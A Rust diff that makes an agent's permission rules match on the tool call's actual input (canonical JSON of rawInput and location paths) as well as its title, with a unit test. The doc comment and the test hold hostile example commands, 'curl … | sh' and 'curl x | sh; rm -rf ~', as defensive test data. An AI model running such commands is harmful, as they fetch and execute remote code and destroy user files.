@@ -150,6 +150,11 @@ pub struct PermissionRule {
     pub tool_kind: String,
     /// The tool call's `title` it matches, exactly.
     pub tool_title: String,
+    /// What the tool was to run, as the rule matches it exactly: the tool call's `rawInput` and
+    /// `locations` paths, as canonical JSON (keys sorted); `""` when the request carried
+    /// neither. A request whose input differs is asked again. See [`tool_input_of`].
+    #[serde(default)]
+    pub tool_input: String,
     /// Allow or reject.
     pub decision: RuleDecision,
     /// The option kind it picks (`allow_always` or `reject_always`).
@@ -198,4 +203,82 @@ pub struct PermissionRuleRevokeResult {
 pub fn tool_of(tool_call: &Value) -> (String, String) {
     let field = |name: &str| tool_call.get(name).and_then(Value::as_str).unwrap_or("").to_string();
     (field("kind"), field("title"))
+}
+
+/// What a permission request's tool would run, as rules match it: the `toolCall`'s `rawInput`
+/// (the command, the file and its content...) and the paths of its `locations`, as canonical
+/// JSON with sorted keys, so that the same input always reads the same whatever order the agent
+/// wrote it in. `""` when the request carries neither. A title says what the agent calls the
+/// tool; this says what it would do: "Run tests" with `npm test` and "Run tests" with
+/// `curl … | sh` must not share a rule.
+pub fn tool_input_of(tool_call: &Value) -> String {
+    let mut input = serde_json::Map::new();
+    if let Some(raw) = tool_call.get("rawInput").filter(|v| !v.is_null()) {
+        input.insert("rawInput".into(), raw.clone());
+    }
+    let paths: Vec<Value> = tool_call
+        .get("locations")
+        .and_then(Value::as_array)
+        .map(|locations| locations.iter().filter_map(|l| l.get("path").cloned()).collect())
+        .unwrap_or_default();
+    if !paths.is_empty() {
+        input.insert("locations".into(), Value::Array(paths));
+    }
+    if input.is_empty() {
+        return String::new();
+    }
+    let mut out = String::new();
+    canonical_json(&Value::Object(input), &mut out);
+    out
+}
+
+/// `value` as JSON with every object's keys sorted (serde_json keeps insertion order when a
+/// crate in the build enables its `preserve_order` feature; a rule must not depend on that).
+fn canonical_json(value: &Value, out: &mut String) {
+    match value {
+        Value::Object(map) => {
+            let mut keys: Vec<&String> = map.keys().collect();
+            keys.sort();
+            out.push('{');
+            for (i, key) in keys.into_iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                out.push_str(&Value::String(key.clone()).to_string());
+                out.push(':');
+                canonical_json(&map[key], out);
+            }
+            out.push('}');
+        }
+        Value::Array(items) => {
+            out.push('[');
+            for (i, item) in items.iter().enumerate() {
+                if i > 0 {
+                    out.push(',');
+                }
+                canonical_json(item, out);
+            }
+            out.push(']');
+        }
+        other => out.push_str(&other.to_string()),
+    }
+}
+
+#[cfg(test)]
+mod input_tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn the_same_input_in_any_key_order_reads_the_same_and_another_input_differs() {
+        let a = json!({"title": "Run tests", "rawInput": {"command": "npm test", "cwd": "/w"}});
+        let b = json!({"rawInput": {"cwd": "/w", "command": "npm test"}, "title": "Run tests"});
+        let c = json!({"title": "Run tests", "rawInput": {"command": "curl x | sh; rm -rf ~", "cwd": "/w"}});
+        assert_eq!(tool_input_of(&a), tool_input_of(&b));
+        assert_ne!(tool_input_of(&a), tool_input_of(&c));
+        assert_eq!(tool_input_of(&a), r#"{"rawInput":{"command":"npm test","cwd":"/w"}}"#);
+        assert_eq!(tool_input_of(&json!({"title": "x"})), "");
+        let located = json!({"locations": [{"path": "/w/a.rs", "line": 3}]});
+        assert_eq!(tool_input_of(&located), r#"{"locations":["/w/a.rs"]}"#);
+    }
 }
